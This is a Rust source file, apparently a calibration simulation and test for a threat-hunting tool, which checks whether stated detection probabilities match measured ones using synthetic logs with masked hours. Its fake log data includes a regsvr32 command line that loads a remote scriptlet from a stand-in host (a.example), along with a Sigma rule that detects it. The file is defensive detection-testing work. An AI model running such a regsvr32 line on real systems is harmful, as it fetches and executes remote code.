//! Whether the strength of a negative is what it says: organisations with masked logs, compromised by dice.
//!
//! Each organisation has machines, hours and three sources of logs, of which much is masked at random: whole sources,
//! sources of a machine, outages, single hours. Its logs are written as text and hunted in like any others, and the
//! hunt states for every machine how probable it is that a compromise would have been seen. Then the machine is
//! compromised many times: dice decide when, which kinds of indicators and whether a technique are used, and whether the
//! log shows them and the rule that was asked (not in every organisation is one) knows this way of doing it; what
//! falls in a masked hour is lost. The records that stay are hunted in, and it is counted how often anything was seen.

use std::fmt::Write as _;
use std::ops::ControlFlow;
use std::sync::Arc;

use anyhow::{Context as _, bail};
use tegakari_hunt::{
    Asked, Assumptions, Input, InventoryAsset, Outcome, Plan, Rules, conclude, hunt_input,
};
use tegakari_model::{
    HuntResult, Indicator, Observable, ObservableKind as K, ReportedTechnique, RuleLevel,
    TechniqueId, Telemetry, TimeRange, Timestamp,
};
use tegakari_sigma::{RuleFile, RuleSet};

/// 2025-03-04T00:00:00Z.
const BEGIN: i64 = 1_741_046_400;
const HOURS: usize = 24;
const SOURCES: usize = 3;
/// What is looked for, and the source that would show it.
const WANTED: [(K, &str, usize); 4] = [
    (K::Domain, "evil.example", 0),
    (K::Ipv4, "203.0.114.9", 1),
    (
        K::Sha256,
        "3fb81913c2daf36530c9ae011feebeb5bc61432969598e2dfaa52fc2ce839f20",
        2,
    ),
    (
        K::CommandLine,
        "regsvr32 /s /n c:\\users\\public\\evil.dat",
        2,
    ),
];

/// The technique that the report names, what of it stands in the logs, and a rule that finds that.
const TECHNIQUE: &str = "T1218.010";
const BEHAVIOUR: &str = "regsvr32 /i:http://a.example/b.sct scrobj.dll";
const RULE: &str = "title: A script by regsvr32\nstatus: test\nlevel: high\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    selection:\n        CommandLine|contains|all:\n            - 'regsvr32'\n            - 'scrobj.dll'\n    condition: selection\ntags:\n    - attack.t1218.010\n";

/// Runs the chore: `[--seed N] [--organisations N] [--repeats N]`.
pub(crate) fn run(arguments: &[String]) -> anyhow::Result<()> {
    let (mut seed, mut organisations, mut repeats) = (1, 200, 12);
    let mut rest = arguments.iter();
    while let Some(name) = rest.next() {
        let value = rest
            .next()
            .with_context(|| format!("{name} needs a number"))?;
        let value: u64 = value
            .parse()
            .with_context(|| format!("{value} is no number"))?;
        match name.as_str() {
            "--seed" => seed = value,
            "--organisations" => organisations = value,
            "--repeats" => repeats = value,
            other => bail!("unknown option {other}"),
        }
    }
    let mut text = String::new();
    for (title, truth) in [
        ("Kinds depend on each other as assumed", None),
        (
            "Families do not depend on each other (half was assumed)",
            Some(0.0),
        ),
        (
            "Families depend on each other as far as they can (half was assumed)",
            Some(1.0),
        ),
    ] {
        let table = calibrate(seed, organisations, repeats, truth);
        writeln!(
            text,
            "{title}:\n\n| stated | simulations | mean stated | measured | difference |\n|---|---|---|---|---|"
        )?;
        for (at, row) in table.iter().enumerate().filter(|(_, row)| row.all > 0) {
            let (stated, measured) = (row.stated(), row.measured());
            writeln!(
                text,
                "| {} to {} % | {} | {stated:.1} % | {measured:.1} % | {:+.1} |",
                at * 10,
                at * 10 + 10,
                row.all,
                measured - stated
            )?;
        }
        writeln!(text)?;
    }
    #[allow(clippy::print_stdout, reason = "the result of a chore")]
    {
        print!("{text}");
    }
    Ok(())
}

/// One decile of stated probabilities.
#[derive(Debug, Default, Clone)]
struct Row {
    all: u64,
    seen: u64,
    sum: f64,
}

impl Row {
    fn stated(&self) -> f64 {
        self.sum / self.all.max(1) as f64 * 100.0
    }

    fn measured(&self) -> f64 {
        self.seen as f64 / self.all.max(1) as f64 * 100.0
    }
}

/// `truth` is how far families really depend on each other; as assumed when `None`.
fn calibrate(seed: u64, organisations: u64, repeats: u64, truth: Option<f64>) -> Vec<Row> {
    let mut rows = vec![Row::default(); 10];
    for number in 0..organisations {
        let mut dice = Dice(seed.wrapping_mul(1_000_003).wrapping_add(number));
        let organisation = Organisation::throw(&mut dice, truth.is_some());
        let base = organisation.hunt(&organisation.background());
        let result = organisation.conclude(base.clone());
        // Nothing was done yet: a sighting here would be an invention.
        assert!(
            !is_seen(&result),
            "organisation {number}: seen before anything was done"
        );
        let Some(strength) = result.strength else {
            continue;
        };
        for stated in &strength.assets {
            let Some(machine) = (0..organisation.machines).find(|m| name(*m) == stated.asset)
            else {
                continue;
            };
            for _ in 0..repeats {
                let text = organisation.compromise(machine, truth, &mut dice);
                let mut outcome = base.clone();
                outcome.merge(organisation.hunt(&text));
                let seen = is_seen(&organisation.conclude(outcome));
                let decile = ((stated.probability * 10.0) as usize).min(9);
                if let Some(row) = rows.get_mut(decile) {
                    row.all += 1;
                    row.seen += u64::from(seen);
                    row.sum += stated.probability;
                }
            }
        }
    }
    rows
}

/// Whether anything of the report was seen: an indicator or a behaviour.
fn is_seen(result: &HuntResult) -> bool {
    let fired = |of: &tegakari_model::Behaviours| !of.observed.is_empty();
    result.totals().seen > 0 || result.behaviours.as_deref().is_some_and(fired)
}

struct Organisation {
    machines: usize,
    /// By machine, source, hour: whether the record is kept.
    kept: Vec<[[bool; HOURS]; SOURCES]>,
    assumed: Assumptions,
    inventory: Vec<InventoryAsset>,
    plan: Plan,
}

fn name(machine: usize) -> String {
    format!("ws-{machine:02}")
}

impl Organisation {
    fn throw(dice: &mut Dice, half_dependent: bool) -> Self {
        let machines = 4 + dice.below(8);
        let mut assumed = Assumptions::default();
        for (kind, _, source) in WANTED {
            let hours = if source == 2 {
                1
            } else {
                1 + dice.below(8) as u32
            };
            assumed.used.insert(kind, (0.2 + 0.8 * dice.share(), hours));
        }
        assumed.technique = (0.2 + 0.8 * dice.share(), 1);
        assumed.rule = 0.2 + 0.8 * dice.share();
        let asks = dice.share() < 0.7;
        assumed.detection = 0.7 + 0.3 * dice.share();
        assumed.dependence = [0.0, 0.5, 1.0][dice.below(3)];
        if half_dependent {
            assumed.dependence = 0.5;
        }
        let absent: Vec<bool> = (0..SOURCES).map(|_| dice.share() < 0.15).collect();
        let lost = 0.6 * dice.share();
        let kept = (0..machines)
            .map(|_| {
                let mut of_machine = [[false; HOURS]; SOURCES];
                for (of_source, absent) in of_machine.iter_mut().zip(&absent) {
                    if *absent || dice.share() < 0.2 {
                        continue;
                    }
                    let outage = (dice.below(HOURS), dice.below(HOURS / 2));
                    for (hour, kept) in of_source.iter_mut().enumerate() {
                        let out = hour >= outage.0 && hour < outage.0 + outage.1;
                        *kept = !out && dice.share() >= lost;
                    }
                }
                of_machine
            })
            .collect();
        let inventory: Vec<InventoryAsset> = (0..machines)
            .map(|machine| InventoryAsset {
                name: name(machine),
                addresses: vec![format!("10.0.0.{}", machine + 1)],
                ..InventoryAsset::default()
            })
            .collect();
        let indicators = WANTED
            .iter()
            .filter_map(|(kind, value, _)| Observable::new(*kind, value).ok())
            .map(Indicator::new)
            .collect();
        let time = |hour: usize| Timestamp::from_second(BEGIN + hour as i64 * 3600).ok();
        let window = TimeRange {
            from: time(0),
            until: time(HOURS),
        };
        let mut plan = Plan::new(indicators, window).0.with_inventory(&inventory);
        if asks {
            let file = RuleFile {
                name: "rule.yml",
                text: RULE.as_bytes(),
            };
            let set = RuleSet::compile(&[file], &[], &mut Vec::new());
            let rules = Rules::new(Arc::new(set), RuleLevel::Informational, "calibration");
            plan = plan.with_rules(Arc::new(rules));
        }
        Self {
            machines,
            kept,
            assumed,
            inventory,
            plan,
        }
    }

    /// The logs as they are when nothing happens.
    fn background(&self) -> [String; SOURCES] {
        let mut logs = [const { String::new() }; SOURCES];
        for (machine, of_machine) in self.kept.iter().enumerate() {
            for (source, (log, hours)) in logs.iter_mut().zip(of_machine).enumerate() {
                for hour in (0..HOURS).filter(|hour| hours[*hour]) {
                    log.push_str(&record(source, machine, hour, None));
                }
            }
        }
        logs
    }

    /// What stays in the logs of one compromise.
    fn compromise(&self, machine: usize, truth: Option<f64>, dice: &mut Dice) -> [String; SOURCES] {
        let mut logs = [const { String::new() }; SOURCES];
        let start = dice.below(HOURS);
        let shared = dice.share() < truth.unwrap_or(self.assumed.dependence);
        let network = (dice.share(), dice.share());
        let own = (dice.share(), dice.share());
        let indicators = WANTED.map(|(kind, value, source)| {
            let (used, hours) = self.assumed.used.get(&kind).copied().unwrap_or((0.0, 1));
            (kind, value, source, used, hours, self.assumed.detection)
        });
        // The technique is carried out whether a rule knows this way of doing it or not; what none knows is not seen.
        let (used, hours) = self.assumed.technique;
        let found = self.assumed.detection * self.assumed.rule;
        let technique = (K::CommandLine, BEHAVIOUR, 2, used, hours, found);
        for (kind, value, source, used, hours, detection) in
            indicators.into_iter().chain([technique])
        {
            let (uses, shows) = if source == 2 && !shared { own } else { network };
            if uses > used || shows > detection {
                continue;
            }
            for hour in start..(start + hours as usize).min(HOURS) {
                if self.kept[machine][source][hour] {
                    logs[source].push_str(&record(source, machine, hour, Some((kind, value))));
                }
            }
        }
        logs
    }

    fn hunt(&self, logs: &[String; SOURCES]) -> Outcome {
        let mut all = Outcome::default();
        for (name, log) in ["dns.log", "conn.log", "sysmon.xml"].iter().zip(logs) {
            if !log.is_empty() {
                let input = Input::new(*name, log.as_bytes());
                all.merge(hunt_input(
                    input,
                    &self.plan,
                    &|_| ControlFlow::Continue(()),
                ));
            }
        }
        all
    }

    fn conclude(&self, outcome: Outcome) -> HuntResult {
        let asked = Asked {
            assumptions: self.assumed.clone(),
            techniques: TechniqueId::parse(TECHNIQUE)
                .map(|id| ReportedTechnique {
                    id,
                    name: "Regsvr32".to_owned(),
                    probability: 1.0,
                    telemetry: vec![Telemetry::Process, Telemetry::CommandLine],
                })
                .into_iter()
                .collect(),
            ..Asked::default()
        };
        conclude(outcome, &self.plan, &self.inventory, asked)
    }
}

/// A record of one machine in one hour, with an indicator or without.
fn record(source: usize, machine: usize, hour: usize, shows: Option<(K, &str)>) -> String {
    let client = format!("10.0.0.{}", machine + 1);
    let ts = BEGIN + hour as i64 * 3600 + 60;
    let value = |kind: K, other: &'static str| match shows {
        Some((shown, value)) if shown == kind => value.to_owned(),
        _ => other.to_owned(),
    };
    match source {
        0 => format!(
            "{{\"ts\":{ts}.5,\"uid\":\"C1\",\"id.orig_h\":\"{client}\",\"id.orig_p\":5353,\"id.resp_h\":\"10.9.9.9\",\"id.resp_p\":53,\"proto\":\"udp\",\"query\":\"{}\",\"qtype_name\":\"A\"}}\n",
            value(K::Domain, "www.example.org")
        ),
        1 => format!(
            "{{\"ts\":{ts}.5,\"uid\":\"C1\",\"id.orig_h\":\"{client}\",\"id.orig_p\":5353,\"id.resp_h\":\"{}\",\"id.resp_p\":443,\"proto\":\"tcp\",\"conn_state\":\"SF\"}}\n",
            value(K::Ipv4, "198.51.101.7")
        ),
        _ => format!(
            "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><System><Provider Name=\"Microsoft-Windows-Sysmon\"/><EventID>1</EventID><TimeCreated SystemTime=\"2025-03-04T{hour:02}:01:00.0000000Z\"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>{}</Computer></System><EventData><Data Name=\"Image\">C:\\Windows\\System32\\svchost.exe</Data><Data Name=\"CommandLine\">{}</Data><Data Name=\"Hashes\">SHA256={}</Data></EventData></Event>\n",
            name(machine),
            value(K::CommandLine, "svchost.exe -k netsvcs"),
            value(
                K::Sha256,
                "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B8AA"
            ),
        ),
    }
}

/// SplitMix64.
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, most: usize) -> usize {
        (self.next() % most as u64) as usize
    }

    fn share(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1_u64 << 53) as f64
    }
}

#[cfg(test)]
mod tests {
    use super::calibrate;

    #[test]
    fn the_stated_probability_is_what_is_measured() {
        let rows = calibrate(7, 30, 4, None);
        let mut judged = 0;
        for row in rows.iter().filter(|row| row.all >= 40) {
            // Five points, and what chance alone does to so few.
            let chance = 300.0 * (0.25 / row.all as f64).sqrt();
            let apart = (row.measured() - row.stated()).abs();
            assert!(apart <= 5.0 + chance, "{row:?}");
            judged += 1;
        }
        assert!(judged >= 6, "{rows:?}");
    }
}
